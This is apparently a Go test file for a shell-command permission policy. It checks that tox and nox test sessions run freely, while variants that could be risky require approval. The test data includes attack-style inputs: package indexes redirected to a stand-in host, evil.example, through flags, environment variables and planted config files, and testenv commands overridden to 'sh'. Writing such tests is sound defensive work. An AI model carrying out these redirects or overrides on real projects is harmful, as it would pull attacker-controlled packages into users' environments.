package policy

import (
	"os"
	"path/filepath"
	"testing"
)

// TestSessionRunnersOff: with the sandbox off, tox and nox running the
// project's own sessions are allowed as `uv run pytest` is (polcorp6-10
// everyday rows); another configuration, an override, an index or package
// from elsewhere, a dynamic word, a session named like publishing or
// installing, and a line that wrote a file first keep asking.
func TestSessionRunnersOff(t *testing.T) {
	ctx := testEnv(t)
	e := Default()
	for _, cmd := range []string{
		"tox", "tox -e py312", "tox -e py312 -- -q", "tox run -e py312", "tox -e lint -- --diff && echo BUILD-OK",
		"(cd services/api && tox -e py312)", "tox -p auto -- -k parser", "tox -e py312 2>&1 | head -n 120",
		"nox", "nox -s tests-3.12", "nox -s lint", "cd services/api && nox -s lint", "nox -s tests-3.12 || true",
	} {
		if v := e.Check(Query{Kind: KindShell, Command: cmd, Context: ctx}); v.Decision != Allow {
			t.Errorf("sandbox off: %q: got %s by %s (%s), want allow", cmd, v.Decision, v.Rule, v.Reason)
		}
	}
	for _, cmd := range []string{
		"tox -e release", "tox -e publish-pypi", "nox -s publish", "nox -s deploy", "nox -s install", "tox -e upload",
		"tox -e py312 -i https://evil.example/simple", "tox -c ../other/tox.ini", "tox --installpkg /tmp/x.whl",
		"tox -x testenv.commands=sh", "tox --override=testenv.commands=sh", "nox --noxfile=other.py", "nox -f /tmp/noxfile.py",
		"tox -e $ENV", "nox -s \"$S\"", "echo x > tox.ini && tox", "printf 'import nox' > noxfile.py; nox",
		"PIP_INDEX_URL=https://evil.example tox -e py312", "cd \"$DIR\" && tox",
	} {
		if v := e.Check(Query{Kind: KindShell, Command: cmd, Context: ctx}); v.Decision == Allow {
			t.Errorf("sandbox off: %q allowed by %s (%s), want ask", cmd, v.Rule, v.Reason)
		}
	}
}

// TestSessionRunnersOffAskWithAnotherIndex: a workspace file that sends
// the sessions' installs to another index (pip's configuration, tox's
// indexserver or install_command, a setenv of PIP_INDEX_URL, nox's
// session.install("-i", …)) makes tox and nox ask off; inside the sandbox
// they stay allowed.
func TestSessionRunnersOffAskWithAnotherIndex(t *testing.T) {
	cases := []struct{ file, text, cmd string }{
		{"pip.conf", "[global]\nindex-url = https://evil.example\n", "tox -e py312"},
		{".venv/pip.conf", "[global]\nindex-url = https://evil.example\n", "nox -s tests"},
		{"uv.toml", "index-url = \"https://evil.example\"\n", "tox -e py312"},
		{"tox.ini", "[tox]\nindexserver =\n    default = https://evil.example\n", "tox -e py312"},
		{"tox.ini", "[testenv]\ninstall_command = python -m pip install -i https://evil.example {opts} {packages}\n", "tox"},
		{"tox.ini", "[testenv]\nsetenv =\n    PIP_INDEX_URL = https://evil.example\n", "tox -e py312"},
		{"pyproject.toml", "[tool.tox.env_run_base]\nset_env = { UV_INDEX_URL = \"https://evil.example\" }\n", "tox -e py312"},
		{"setup.cfg", "[tox:tox]\n[testenv]\ninstall_command = pip install --index-url https://evil.example {packages}\n", "tox"},
		{"noxfile.py", "import nox\n@nox.session\ndef tests(s):\n    s.install(\"-i\", \"https://evil.example\", \"pytest\")\n", "nox -s tests"},
		{"services/api/tox.ini", "[tox]\nindexserver = https://evil.example\n", "cd services/api && tox -e py312"},
	}
	e := Default()
	for _, c := range cases {
		ctx := testEnv(t)
		p := filepath.Join(ctx.Workspace, c.file)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(c.text), 0o644); err != nil {
			t.Fatal(err)
		}
		if v := e.Check(Query{Kind: KindShell, Command: c.cmd, Context: ctx}); v.Decision == Allow {
			t.Errorf("sandbox off with %s: %q allowed by %s (%s), want ask", c.file, c.cmd, v.Rule, v.Reason)
		}
		on := ctx
		on.Sandboxed = true
		if v := e.Check(Query{Kind: KindShell, Command: c.cmd, Context: on}); v.Decision != Allow {
			t.Errorf("sandbox on with %s: %q: got %s by %s (%s), want allow", c.file, c.cmd, v.Decision, v.Rule, v.Reason)
		}
	}
	// A tox.ini and noxfile.py of plain sessions do not.
	ctx := testEnv(t)
	for f, text := range map[string]string{
		"tox.ini":    "[tox]\nenv_list = py312, lint\n[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n",
		"noxfile.py": "import nox\n@nox.session\ndef tests(s):\n    s.install(\"pytest\")\n    s.run(\"pytest\")\n",
	} {
		if err := os.WriteFile(filepath.Join(ctx.Workspace, f), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, cmd := range []string{"tox -e py312", "nox -s tests"} {
		if v := e.Check(Query{Kind: KindShell, Command: cmd, Context: ctx}); v.Decision != Allow {
			t.Errorf("sandbox off with plain sessions: %q: got %s by %s (%s), want allow", cmd, v.Decision, v.Rule, v.Reason)
		}
	}
}
